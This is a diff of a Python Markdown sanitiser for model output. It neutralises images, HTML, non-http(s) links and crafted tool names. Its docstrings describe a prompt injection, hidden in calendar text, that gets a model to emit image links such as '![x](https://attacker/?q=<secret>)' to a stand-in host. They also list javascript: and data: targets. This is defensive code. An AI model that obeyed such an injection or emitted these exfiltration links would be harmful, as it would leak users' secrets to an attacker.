@@ -3,8 +3,10 @@
 Model output is untrusted: calendar text can carry a prompt injection that asks the model
 to emit ``![x](https://attacker/?q=<secret>)``, which a browser would fetch. Before any
 answer is drawn, :func:`safe_markdown` turns images into inert text (the URL shown as code,
-never fetched nor linked) and escapes raw HTML, so no tag is ever interpreted. Ordinary
-links stay links: the user decides whether to follow one.
+never fetched nor linked) and escapes raw HTML, so no tag is ever interpreted. Links to
+``http:``, ``https:`` and ``mailto:`` stay links (the user decides whether to follow one);
+any other target (``javascript:``, ``data:``, ``file:``, relative paths ...) becomes plain
+text, inline or as a reference definition.
 """
 
 from __future__ import annotations
@@ -17,16 +19,22 @@ from typing import Any
 _INLINE_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
 _REF_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*\[([^\]\n]*)\]")
 _HTML_TAG = re.compile(r"<(/?[A-Za-z!][^>]*)>")
+# A closing bracket that can end a link's text or a reference label: ``](`` (inline link) or
+# ``]:`` (link reference definition), with the backslashes before it (an odd count escapes it).
+_LINK_BRACKET = re.compile(r"(\\*)\](?=[(:])")
+_TOOL_NAME = re.compile(r"[A-Za-z][A-Za-z0-9_\-]{0,127}")
+_ALLOWED_TARGET = re.compile(r"[(:]\s*(?:https?://|mailto:)", re.IGNORECASE)
 
 
 def safe_markdown(text: str) -> str:
-    """Markdown that cannot load remote images or run HTML.
+    """Markdown that cannot load remote images, run HTML or link anywhere but http(s)/mailto.
 
     Args:
-        text: Untrusted markdown produced by the model.
+        text: Untrusted markdown produced by the model (or typed by a user).
 
     Returns:
-        The same markdown with images replaced by inert text and HTML tags escaped.
+        The same markdown with images replaced by inert text, HTML tags escaped and links
+        to any other target left as plain text.
     """
 
     def _inline(match: re.Match[str]) -> str:
@@ -42,7 +50,66 @@ def safe_markdown(text: str) -> str:
     out = _REF_IMAGE.sub(_ref, out)
     out = out.replace("![", "!\\[")  # shortcut references and anything left: never an image
     out = _HTML_TAG.sub(lambda m: html.escape(m.group(0)), out)
-    return out
+    return _neutralise_links(out)
+
+
+def _neutralise_links(text: str) -> str:
+    """Escape the ``]`` of every link or reference definition whose target is not http(s)/mailto.
+
+    Every Markdown link needs an unescaped ``]`` directly followed by ``(`` or, for the
+    definition a reference link points to, by ``:``. Escaping that bracket leaves the text
+    readable ("[click](javascript:...)" shown as typed) and makes it inert, however the
+    target is spelled (upper case, entities, whitespace). Runs after HTML escaping, so a
+    ``<destination>`` in angle brackets (already ``&lt;...&gt;``) is never a link either.
+    The check also applies inside code spans (a ``](`` there shows a backslash): telling
+    code from text the way the renderer does is where a bypass would hide.
+    """
+
+    def _check(match: re.Match[str]) -> str:
+        slashes = match.group(1)
+        if len(slashes) % 2:
+            return match.group(0)  # already a literal bracket
+        if _ALLOWED_TARGET.match(text, match.end()):
+            return match.group(0)
+        return slashes + "\\]"
+
+    return _LINK_BRACKET.sub(_check, text)
+
+
+def plain_text(text: str) -> str:
+    """Untrusted text made to render as itself in Markdown, labels included.
+
+    Widget and expander labels render Markdown too (links, images shown as icons, material
+    icons, colours): a model- or user-supplied string put in one must not become any of
+    them, or a name like ``![x](https://host/leak)`` makes every viewer's browser fetch it.
+
+    Args:
+        text: A tool name, title, or other single-line string from the model or a user.
+
+    Returns:
+        One line with Markdown syntax backslash-escaped, HTML escaped and icon codes broken.
+    """
+    text = " ".join((text or "").split())
+    text = re.sub(r"([\\`*_\[\]#|~$])", r"\\\1", text)
+    text = text.replace(":material/", ":\u200bmaterial/")  # no icon injection
+    return safe_markdown(text)
+
+
+def tool_name_markdown(name: str) -> str:
+    """A tool name for Markdown: as code when it is a plain identifier, else as escaped text.
+
+    The model chooses the names it calls; one like ``x` ![y](https://host/leak) `z`` would
+    end a code span early and turn the rest into Markdown.
+
+    Args:
+        name: The tool name the model sent.
+
+    Returns:
+        The name in backticks (code), or as :func:`plain_text` ("unnamed" when empty).
+    """
+    if _TOOL_NAME.fullmatch(name):
+        return f"`{name}`"
+    return plain_text(name) or "unnamed"
 
 
 def _inert_url(url: str) -> str:
